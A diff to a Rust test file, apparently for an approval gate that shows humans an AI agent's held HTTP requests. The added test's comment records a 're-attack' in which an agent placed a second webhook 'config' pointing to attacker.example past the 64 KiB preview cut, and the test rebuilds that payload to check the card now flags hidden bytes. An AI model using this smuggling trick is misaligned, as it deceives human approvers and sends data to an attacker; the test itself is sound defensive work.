@@ -1241,3 +1241,54 @@ fn a_desktop_notification_draws_no_markup_of_the_agents() {
     assert!(body.contains("&lt;a href") && body.contains("&amp;&lt;img"), "{body}");
     assert!(body.chars().count() < 500, "{body}");
 }
+
+/// The twenty-fourth re-attack: a held request's body was shown cut at 64 KiB with no mark, and an
+/// agent put a second `"config"` (read last by the upstream's parser) past the cut. What is not
+/// shown is said in the body's text itself, on every surface; so are bytes that are not UTF-8. A
+/// repeat joins a waiting request only when its bound identity is the same, not only its shown
+/// arguments (repeated headers are shown joined with ", ").
+#[test]
+fn a_held_requests_card_says_what_of_its_body_it_does_not_show() {
+    let connector = Fqn::parse("github://aileron/github-cli").unwrap();
+    let held = |body: &[u8], headers: &[(String, String)]| {
+        ApprovalEntry::http_request_with_headers(
+            HttpRequestApproval {
+                id: id_at(T0, 1),
+                connector: &connector,
+                operation: "create_hook",
+                method: "POST",
+                host: "api.github.com:443",
+                target: "/repos/acme/app/hooks",
+                body,
+                requested_at: T0.to_string(),
+                session_id: "ses-1",
+                unconfined: false,
+            },
+            headers,
+        )
+    };
+    let mut body = br#"{"config":{"url":"https://ci.acme.example/hook"},"description":""#.to_vec();
+    body.extend(std::iter::repeat_n(b'x', MAX_HTTP_BODY_PREVIEW_BYTES));
+    body.extend(br#"","config":{"url":"https://attacker.example/steal"}}"#);
+    let entry = held(&body, &[]);
+    let shown = entry.args["body"].as_str().unwrap();
+    let hidden = body.len() - MAX_HTTP_BODY_PREVIEW_BYTES;
+    let note = format!(
+        "[aileron: only the first {MAX_HTTP_BODY_PREVIEW_BYTES} of this body's {} bytes are shown; approving sends the \
+         other {hidden} unseen: deny unless you expected a body this large]\n{{\"config\"",
+        body.len()
+    );
+    assert!(shown.starts_with(&note), "{}", &shown[..300]);
+    assert!(!shown.contains("attacker.example"));
+    let whole = held(br#"{"merge_method":"squash"}"#, &[]);
+    assert_eq!(whole.args["body"], r#"{"merge_method":"squash"}"#, "a body shown whole carries no mark");
+    let binary = held(b"\xff\xfeok", &[]);
+    assert!(binary.args["body"].as_str().unwrap().contains("not all UTF-8 text"), "{:?}", binary.args["body"]);
+    let header = |name: &str, value: &str| (name.to_string(), value.to_string());
+    let joined = held(b"{}", &[header("x-h", "a, b")]);
+    let repeated = held(b"{}", &[header("x-h", "a"), header("x-h", "b")]);
+    assert_eq!(joined.args, repeated.args, "shown alike");
+    let entries = [joined.clone()];
+    assert_eq!(admit(&entries, AdmissionRequest::of(&repeated)), Admission::New, "bound apart");
+    assert_eq!(admit(&entries, AdmissionRequest::of(&joined.clone())), Admission::Repeat(&entries[0]));
+}
